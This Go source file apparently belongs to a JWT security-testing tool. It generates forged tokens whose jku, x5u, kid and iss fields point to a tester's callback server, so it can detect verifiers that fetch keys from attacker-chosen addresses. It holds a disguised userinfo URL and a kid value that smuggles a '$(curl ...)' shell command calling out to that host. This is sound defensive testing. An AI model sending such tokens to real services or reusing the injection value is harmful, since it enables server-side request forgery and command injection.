package forge

import "strings"

// calling lead to an address of the forger's, where a fetch is seen. Whoever
// fetches lets strangers choose whom the server talks to, also when the token
// is refused in the end (T22 to T24, T30).
func (f *forger) calling() []Token {
	if f.Callback == "" {
		return nil
	}
	algorithm := f.foreignAlgorithm()
	own := func(more ...string) string {
		return object(append([]string{"alg", quote(algorithm), "kid", quote(f.own.Key().ID()), "typ", f.kind()}, more...)...)
	}
	jku, x5u, issuer := f.Callback+"/T23/jwks.json", f.Callback+"/T24/cert.pem", f.Callback+"/T30"
	disguised := strings.Replace(jku, "://", "://"+hostOf(f.Issuer)+"@", 1)
	const want = wantKey + " Nothing may be fetched."
	return []Token{
		{ID: "T23", Name: "jku-callback", Title: "jku of the forger's keys, which are really there", Want: want, Raw: f.byOwn(own("jku", quote(jku)), f.payload())},
		{ID: "T23", Name: "jku-callback-userinfo", Title: "the same behind the issuer's name and @", Want: want, Raw: f.byOwn(own("jku", quote(disguised)), f.payload())},
		{ID: "T24", Name: "x5u-callback", Title: "x5u of the forger's certificate, which is really there", Want: want, Raw: f.byOwn(own("x5u", quote(x5u)), f.payload())},
		{ID: "T22", Name: "kid-callback-url", Title: "kid is an address where something answers", Want: want, Raw: f.byOwn(object("alg", quote(algorithm), "kid", quote(f.Callback+"/T22/key.pem"), "typ", f.kind()), f.payload())},
		{ID: "T22", Name: "kid-callback-shell", Title: "kid is a command that fetches", Want: want, Raw: f.byOwn(object("alg", quote(algorithm), "kid", quote("$(curl -s "+f.Callback+"/T22/curl)"), "typ", f.kind()), f.payload())},
		{ID: "T30", Name: "iss-callback", Title: "a genuine token of an issuer of the forger's, which is really there", Want: "The issuer is another one; nothing may be fetched from it.", Raw: f.byOwn(own(), f.changed("iss", quote(issuer), "sub", quote(ForgedSubject), "iat", f.at(0)))},
	}
}

// hostOf is the host and port of an address, without its scheme and path.
func hostOf(address string) string {
	_, rest, _ := strings.Cut(address, "://")
	host, _, _ := strings.Cut(rest, "/")
	return host
}

// Certificate is a self-signed one of the forger's own key in PEM, for who
// publishes it at Callback.
func Certificate(s Source) ([]byte, error) {
	f, err := newForger(s)
	if err != nil {
		return nil, err
	}
	body := f.certificate()
	if f.err != nil {
		return nil, f.err
	}
	return []byte("-----BEGIN CERTIFICATE-----\n" + body + "\n-----END CERTIFICATE-----\n"), nil
}
